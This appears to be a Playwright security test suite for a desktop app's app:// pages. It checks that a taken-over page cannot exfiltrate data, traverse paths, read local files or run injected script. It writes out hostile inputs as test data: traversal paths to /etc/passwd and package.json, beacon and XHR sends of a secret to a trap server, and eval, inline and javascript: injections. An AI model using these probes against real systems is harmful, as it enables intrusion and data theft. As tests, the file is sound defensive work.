/**
 * What a page may load, run and ask for: `app://`, the content security policy and the permissions, each tried by a page
 * of ours that has been taken over.
 */
import type { Page } from '@playwright/test'
import { expect, test } from './support/attacked-application.ts'

const policyOf = (page: Page, path: string): Promise<string> =>
  page.evaluate(async (asked) => {
    const response = await fetch(asked)
    return response.headers.get('content-security-policy') ?? ''
  }, path)

const directive = (policy: string, name: string): string[] =>
  policy
    .split('; ')
    .find((each) => each.startsWith(`${name} `))
    ?.split(' ')
    .slice(1) ?? []

/** From now on, what the policy refuses in a page: the directives, sorted. */
async function violations(page: Page): Promise<() => Promise<string[]>> {
  const seen = await page.evaluateHandle(() => {
    const directives: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective))
    return directives
  })
  return () => seen.evaluate((directives) => [...directives].sort())
}

test('every answer of app:// carries the policy, also a refusal', async ({ attacked }) => {
  await attacked.inEveryWindow(async (page) => {
    const script = await page.evaluate(() => document.querySelector('script[src]')?.getAttribute('src') ?? '')
    for (const path of ['/', script, '/nothing-here', '/assets/nothing-here.js']) {
      const policy = await policyOf(page, path)
      expect(directive(policy, 'default-src')).toEqual(["'none'"])
      expect(directive(policy, 'script-src')).toEqual(["'self'"])
      expect(directive(policy, 'style-src')).toEqual(["'self'", expect.stringMatching(/^'nonce-.{16,}'$/)])
      for (const name of ['object-src', 'frame-src', 'frame-ancestors', 'base-uri', 'form-action'])
        expect(directive(policy, name)).toEqual(["'none'"])
    }
    expect(await policyOf(page, '/')).not.toBe(await policyOf(page, '/'))
  })
})

test('each window may connect to its own peers and to nobody else', async ({ attacked }) => {
  const { server, trap } = attacked
  const allowed = { desk: [], phone: [], data: [server, server.replace('http', 'ws')] }
  await attacked.inEveryWindow(async (page, name) => {
    expect(directive(await policyOf(page, '/'), 'connect-src')).toEqual(["'self'", ...allowed[name]])
    const blocked = await violations(page)
    const tried = await page.evaluate(async (url) => {
      const failed = (): string => 'failed'
      const attempts = [
        await fetch(`${url}/fetched`).then(String, failed),
        await new Promise<string>((resolve) => {
          const request = new XMLHttpRequest()
          request.onerror = () => resolve('failed')
          request.onload = () => resolve('loaded')
          request.open('POST', `${url}/posted`)
          request.send('secret')
        }),
        await new Promise<string>((resolve) => {
          const image = new Image()
          image.onerror = () => resolve('failed')
          image.onload = () => resolve('loaded')
          image.src = `${url}/image?secret`
        }),
      ]
      navigator.sendBeacon(`${url}/beacon`, 'secret')
      try {
        new WebSocket(url.replace('http', 'ws'))
      } catch {
        // Some versions throw, others only report.
      }
      return attempts
    }, trap.url)
    expect(tried).toEqual(['failed', 'failed', 'failed'])
    await expect
      .poll(blocked)
      .toEqual(['connect-src', 'connect-src', 'connect-src', 'connect-src', 'img-src'])
  })
  expect(
    await attacked.page('data').evaluate((url) => fetch(`${url}/centre`).then(({ ok }) => ok), server),
  ).toBe(true)
})

test('no path leads out of the built pages, and none to another window’s', async ({ attacked }) => {
  const paths = [
    '/assets/..%2f..%2f..%2fpackage.json',
    '/assets/..%5c..%5c..%5cpackage.json',
    '/assets/%2e%2e/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '//etc/passwd',
    '/%2fetc%2fpasswd',
    '/assets/..%2f..%2fmain%2fmain.js',
    '/assets/%00',
    '/assets/%ff',
    '/index.html',
    '/desk/index.html',
    '/assets',
    '/assets/',
    '/assets/.map',
  ]
  await attacked.inEveryWindow(async (page, name) => {
    const answers = await page.evaluate(
      (asked) =>
        Promise.all(asked.map((path) => fetch(`${location.origin}${path}`).then(({ status }) => status))),
      paths,
    )
    expect(answers).toEqual(paths.map(() => 404))
    const others = ['app://desk/', 'app://phone/', 'app://data/', 'app://evil/', 'app://desk.evil/'].filter(
      (each) => each !== `app://${name}/`,
    )
    const fetched = await page.evaluate(
      (asked) =>
        Promise.all(
          asked.map((url) =>
            fetch(url).then(
              ({ status }) => String(status),
              () => 'failed',
            ),
          ),
        ),
      others,
    )
    expect(fetched).toEqual(others.map(() => 'failed'))
  })
})

test('no page reads a file of the person’s', async ({ attacked }) => {
  await attacked.inEveryWindow(async (page) => {
    const read = await page.evaluate(
      async (fileUrl) => [
        await fetch('file:///etc/passwd').then(String, () => 'failed'),
        await new Promise((resolve) => {
          const image = new Image()
          image.onerror = () => resolve('failed')
          image.onload = () => resolve('loaded')
          image.src = 'file:///usr/share/pixmaps/debian-logo.png'
        }),
        await import(fileUrl).then(String, () => 'failed'),
      ],
      'file:///etc/hostname',
    )
    expect(read).toEqual(['failed', 'failed', 'failed'])
  })
})

test('a page runs no text: neither eval, nor inline script, nor a script from elsewhere', async ({
  attacked,
}) => {
  await attacked.inEveryWindow(async (page) => {
    const blocked = await violations(page)
    const errors = await page.evaluate(async (url) => {
      const errors: string[] = []
      const attempt = async (name: string, run: () => unknown): Promise<void> => {
        // The debugger that this test speaks through lifts the policy until its own call returns.
        await new Promise((resolve) => setTimeout(resolve))
        try {
          await run()
        } catch {
          errors.push(name)
        }
      }
      const insert = (tag: string, attributes: Record<string, string>, text = ''): void => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        element.textContent = text
        document.body.append(element)
        element.click()
        element.remove()
      }
      const dataUrl: string = 'data:text/javascript,window.ran="data"'
      const blob = URL.createObjectURL(new Blob(['window.ran = "blob"'], { type: 'text/javascript' }))
      // biome-ignore lint/security/noGlobalEval: this is the attack
      await attempt('eval', () => globalThis.eval('window.ran = "eval"'))
      await attempt('Function', () => new Function('window.ran = "Function"')())
      await attempt('timeout', () => Reflect.apply(setTimeout, null, ['window.ran = "timeout"', 0]))
      await attempt('inline', () => insert('script', {}, 'window.ran = "inline"'))
      await attempt('nonce', () => insert('script', { nonce: 'guess' }, 'window.ran = "nonce"'))
      await attempt('handler', () => insert('button', { type: 'button', onclick: 'window.ran = "handler"' }))
      await attempt('javascript', () => insert('a', { href: 'javascript:window.ran = "javascript"' }))
      await attempt('foreign', () => insert('script', { src: `${url}/script.js` }))
      await attempt('blob', () => import(/* @vite-ignore */ blob))
      await attempt('data', () => import(/* @vite-ignore */ dataUrl))
      await attempt('wasm', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))
      await attempt('service worker', () => navigator.serviceWorker.register('/assets/worker.js'))
      return errors
    }, attacked.trap.url)
    expect(errors).toEqual(['eval', 'Function', 'blob', 'data', 'wasm', 'service worker'])
    // Every one was refused, so that none is still to run: as text, as a handler, as a script.
    const refused = { 'script-src': 4, 'script-src-attr': 1, 'script-src-elem': 6 }
    await expect
      .poll(blocked)
      .toEqual(Object.entries(refused).flatMap(([name, count]) => Array<string>(count).fill(name)))
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined()
  })
})

test('a worker comes from our own files only, and runs no text and has no Node either', async ({
  attacked,
}) => {
  await attacked.inEveryWindow(async (page) => {
    const refused = await page.evaluate(async () => {
      const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))
      return Promise.all(
        [blob, 'data:text/javascript,postMessage(1)'].map(
          (url) =>
            new Promise((resolve) => {
              try {
                const worker = new Worker(url)
                worker.onerror = () => resolve('refused')
                worker.onmessage = () => resolve('ran')
              } catch {
                resolve('refused')
              }
            }),
        ),
      )
    })
    expect(refused).toEqual(['refused', 'refused'])

    const started = page.waitForEvent('worker')
    // Our script has nothing to do in a worker and fails there, which shows that it runs.
    await page.evaluate(async () => {
      const script = document.querySelector('script[src]')?.getAttribute('src') ?? ''
      const worker = new Worker(script, { type: 'module' })
      Object.assign(window, { attackingWorker: worker })
      await new Promise((resolve) => worker.addEventListener('error', resolve))
    })
    const worker = await started
    const ran = await worker.evaluate(async () => {
      await new Promise((resolve) => setTimeout(resolve))
      let evaluated = 'ran'
      try {
        // biome-ignore lint/security/noGlobalEval: this is the attack
        globalThis.eval('1')
      } catch {
        evaluated = 'refused'
      }
      return { evaluated, require: 'require' in globalThis, process: 'process' in globalThis }
    })
    await page.evaluate(() => Reflect.get(window, 'attackingWorker').terminate())
    expect(ran).toEqual({ evaluated: 'refused', require: false, process: false })
  })
})

test('a style without the page’s nonce does not apply', async ({ attacked }) => {
  const desk = attacked.page('desk')
  const colour = await desk.evaluate(() => {
    const style = document.createElement('style')
    style.textContent = 'body { color: rgb(1, 2, 3) !important }'
    document.head.append(style)
    const shown = getComputedStyle(document.body).color
    style.remove()
    return shown
  })
  expect(colour).not.toBe('rgb(1, 2, 3)')
})
